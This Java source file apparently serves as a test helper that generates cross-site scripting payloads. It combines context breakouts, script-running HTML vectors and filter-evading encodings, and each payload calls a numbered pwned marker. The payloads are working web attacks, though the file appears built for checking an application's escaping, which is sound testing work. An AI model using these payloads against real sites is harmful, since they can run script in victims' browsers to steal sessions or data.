package org.synoptic.app.desk;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Set;
import java.util.function.UnaryOperator;

/**
 * Texts that run a script where a page shows them unescaped: each way out of a place, with each way
 * to run something, in each way to write it. What runs calls {@code pwned} with its number.
 */
final class XssPayloads {

  /** Ends of the places in which a text may stand. */
  private static final List<String> WAYS_OUT =
      List.of(
          "",
          "\">",
          "'>",
          ">",
          "</textarea>",
          "</title>",
          "</script>",
          "</style>",
          "-->",
          "]]>",
          "</option></select>",
          "</code></pre>",
          "\" ",
          "' ",
          "</p></a></li>");

  /** Ways to run RUN, which is a script without spaces or quotation marks of two strokes. */
  private static final List<String> VECTORS =
      List.of(
          "<script>RUN</script>",
          "<script src=data:text/javascript,RUN></script>",
          "<img src=x onerror=RUN>",
          "<svg onload=RUN>",
          "<svg><script>RUN</script></svg>",
          "<svg><a xlink:href=javascript:RUN><text>x</text></a></svg>",
          "<svg><animate onbegin=RUN attributeName=x dur=1s>",
          "<math><mtext><style><img src=x onerror=RUN></style></mtext></math>",
          "<body onload=RUN>",
          "<iframe src=javascript:parent.RUN></iframe>",
          "<iframe srcdoc=\"<script>parent.RUN</script>\"></iframe>",
          "<input autofocus onfocus=RUN>",
          "<details open ontoggle=RUN>",
          "<video><source onerror=RUN></video>",
          "<audio src=x onerror=RUN>",
          "<a href=javascript:RUN>x</a>",
          "<form action=javascript:RUN><button>x</button></form>",
          "<object data=javascript:RUN></object>",
          "<embed src=javascript:RUN>",
          "<meta http-equiv=refresh content=0;url=javascript:RUN>",
          "<base href=javascript:RUN//>",
          "<style>@keyframes k{}</style><b style=animation-name:k onanimationstart=RUN>",
          "<marquee onstart=RUN>x</marquee>",
          "<noscript><p title=\"</noscript><img src=x onerror=RUN>\">",
          "<template shadowrootmode=open><img src=x onerror=RUN></template>",
          "x onmouseover=RUN autofocus onfocus=RUN y=",
          "x/onpointerenter=RUN/style=animation-name:k/",
          "javascript:RUN",
          "';RUN//",
          "\";RUN//");

  /** Ways to write the same. */
  private static final List<UnaryOperator<String>> WRITINGS =
      List.of(
          text -> text,
          text -> text.replace("script", "ScRiPt").replace("<img", "<IMG").replace("on", "oN"),
          text -> text.replace(" ", "/"),
          text -> text.replace(" ", "\n"),
          text -> entities(text, "&#%d;"),
          text -> entities(text, "&#x%x"),
          text -> text.replace("<", "&lt;").replace(">", "&gt;"),
          text -> percent(text),
          text -> text.replace("<", "\\u003c").replace(">", "\\u003e"),
          text -> text.replace("<", "\uff1c").replace(">", "\uff1e"),
          text -> text.replace("<s", "<\u0000s").replace("java", "java\t"),
          text -> text.replace("<", "+ADw-").replace(">", "+AD4-"));

  private XssPayloads() {}

  private static String entities(String text, String form) {
    StringBuilder out = new StringBuilder();
    for (int i = 0; i < text.length(); i++) {
      char c = text.charAt(i);
      out.append("<>\"':".indexOf(c) < 0 ? String.valueOf(c) : String.format(form, (int) c));
    }
    return out.toString();
  }

  private static String percent(String text) {
    StringBuilder out = new StringBuilder();
    for (byte b : text.getBytes(StandardCharsets.UTF_8)) {
      out.append("<>\"' ".indexOf(b) < 0 ? String.valueOf((char) b) : String.format("%%%02x", b));
    }
    return out.toString();
  }

  /** All of them, each once. */
  static List<String> all() {
    Set<String> all = new LinkedHashSet<>();
    for (String way : WAYS_OUT) {
      for (String vector : VECTORS) {
        for (UnaryOperator<String> writing : WRITINGS) {
          all.add(writing.apply(way + vector));
        }
      }
    }
    List<String> numbered = new ArrayList<>();
    for (String one : all) {
      numbered.add(one.replace("RUN", "pwned(`" + numbered.size() + "`)"));
    }
    return numbered;
  }

  /** All of them, joined to texts of so many characters at most. */
  static List<String> joined(List<String> payloads, int most) {
    List<String> joined = new ArrayList<>();
    StringBuilder text = new StringBuilder();
    for (String payload : payloads) {
      if (text.length() + payload.length() >= most && !text.isEmpty()) {
        joined.add(text.toString());
        text.setLength(0);
      }
      text.append(text.isEmpty() ? "" : " ").append(payload);
    }
    joined.add(text.toString());
    return joined;
  }
}
